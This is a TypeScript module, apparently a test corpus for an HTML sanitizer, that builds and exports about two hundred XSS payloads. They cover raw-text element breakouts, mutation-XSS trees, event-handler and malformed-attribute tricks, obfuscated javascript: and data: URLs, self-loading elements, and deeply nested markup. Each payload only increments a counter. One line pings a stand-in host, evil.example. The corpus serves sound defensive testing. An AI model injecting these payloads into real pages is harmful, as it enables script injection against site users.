/** What an attack runs: it tells the page around it, by a global name and by its title. */
const RUN = 'window.hit=(window.hit||0)+1';
const IMG = `<img src=x onerror="${RUN}">`;
const SCRIPT = `<script>${RUN}</script>`;

const RAW = [
  ...['xmp', 'noembed', 'noframes', 'noscript', 'plaintext', 'style', 'script', 'textarea'],
  ...['title', 'template', 'iframe', 'listing', 'select', 'option', 'svg', 'math', 'object'],
];
/** Elements of raw text: the end of one within an attribute, a comment, another one. */
const rawText = RAW.flatMap((name) => [
  `<${name}><p title="</${name}>${IMG.replaceAll('"', "'")}">`,
  `<${name}>${SCRIPT}</${name}>`,
  `<${name}><!--</${name}>${IMG}-->`,
  `<${name.toUpperCase()}>&lt;/${name}&gt;${IMG}</${name}>`,
  `<${name}/><${name}>${IMG}`,
  `<a title="<${name}>">x</a><b title="</${name}>${IMG.replaceAll('"', "'")}">`,
]);

/** Trees that a second parser builds otherwise. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><foreignObject><p><style><!--</style><img src=x onerror=${RUN}>--></svg>`,
  `<math><annotation-xml encoding="text/html"><p><style><img src=x onerror=${RUN}></style></math>`,
  `<table><td><xmp><p title="</xmp><img src=x onerror=${RUN}>"></table>`,
  `<svg><desc><noscript><p title="</noscript><img src=x onerror=${RUN}>"></desc></svg>`,
  `<select><template><style><!--</select></template><img src=x onerror=${RUN}>-->`,
  `<a><svg><a><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<p><table><p><svg><title><p id="</title><img src=x onerror=${RUN}>">`,
  `<ul><li><table><math><mi><li><style><p id="</style><img src=x onerror=${RUN}>">`,
  `<video><source onerror="${RUN}"><track kind=x></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
];

const EVENTS = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin'],
  ...['onpointerenter', 'onscroll', 'oncontentvisibilityautostatechange'],
];
/** Attributes that break out of their quotes, or are written in a way of their own. */
const attributes = EVENTS.flatMap((event) => [
  `<img src=x ${event}=${RUN}>`,
  `<img/src=x/${event}="${RUN}"/>`,
  `<a href="#" autofocus tabindex=0 ${event.toUpperCase()} = '${RUN}'>x</a>`,
  `<p title='a"${event}=${RUN} autofocus'>x</p>`,
  `<video src=x poster=x ${event}\n=\n"${RUN}"></video>`,
]);
const broken = [
  `<img src="x\`onerror=${RUN}"">`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x onerror\0=${RUN}>`,
  `<im\0g src=x onerror=${RUN}>`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<<img src=x onerror=${RUN}>>`,
  `<img src=x title="" title="x" onerror=${RUN}`,
  `<a title="x" title="y" href="javascript:${RUN}" href="https://a.example">x</a>`,
  `<p class="x" <img src=x onerror=${RUN}>>`,
  `</p/onclick=${RUN}><img src=x onerror=${RUN}>`,
  `<a\u000bhref=x\u000conmouseover=${RUN} autofocus onfocus=${RUN}>x</a>`,
  `<img src=x\u0085onerror=${RUN}>`,
  `<img src=x =onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>-->`,
  `<!---><img src=x onerror=${RUN}>`,
  `<!doctype x [<img src=x onerror=${RUN}>]>`,
  `<?xml version="1"?><img src=x onerror=${RUN}>?>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<% <img src=x onerror=${RUN}> %>`,
  `</ <img src=x onerror=${RUN}>>`,
];

const SCHEMES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  '\u0001javascript:RUN',
  'java&#9;script:RUN',
  'java&Tab;script:RUN',
  'javascript&colon;RUN',
  '&#106;avascript:RUN',
  '&#x6A;avascript:RUN',
  'javascript&#58RUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://a.example/1',
  'feed:javascript:RUN',
  'view-source:javascript:RUN',
].map((one) => one.replace('RUN', RUN));
const schemes = SCHEMES.flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<iframe src="${address}"></iframe>`,
  `<video src="${address}" poster="${address}"></video>`,
]);

/** Elements that load, send or lead away by themselves. */
const loaders = [
  `<iframe srcdoc="${SCRIPT.replaceAll('"', '&quot;')}"></iframe>`,
  `<iframe src="https://a.example" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="https://a.example" sandbox="allow-top-navigation allow-scripts" onload=${RUN}></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  `<form action="javascript:${RUN}"><button autofocus onfocus=${RUN}>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<base href="javascript:${RUN}//"><a href="x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="data:text/css,*{}" onload=${RUN}>`,
  `<body onload=${RUN}><html onclick=${RUN}>`,
  `<style>@import 'x';</style><style onload=${RUN}></style>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="animation:x" onanimationstart=${RUN}>x</p>`,
  `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"></use></svg>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<dialog open onbeforetoggle=${RUN}>x</dialog>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<a href="https://a.example" target=_self ping="https://evil.example" id=location name=document>x</a>`,
];

/** Many of a kind: what is deep, long or unclosed. */
const large = [
  `${'<div>'.repeat(600)}${IMG}`,
  `${'<b>'.repeat(300)}<table>${IMG}${'</b>'.repeat(300)}`,
  `${'<xmp>'.repeat(500)}${IMG}`,
  `<p title="${'x'.repeat(50_000)}" onclick=${RUN} ${IMG}`,
  `${'<!--'.repeat(400)}${IMG}`,
  `<a href="${'a:'.repeat(3_000)}" onfocus=${RUN} autofocus>x</a>`,
  `${'&lt;'.repeat(200)}img src=x onerror=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];

/** Forms of HTML that would run in a page, by kind. Our own; none is of a real site. */
export const ATTACKS: readonly string[] = [
  ...rawText,
  ...mutations,
  ...attributes,
  ...broken,
  ...schemes,
  ...loaders,
  ...large,
];
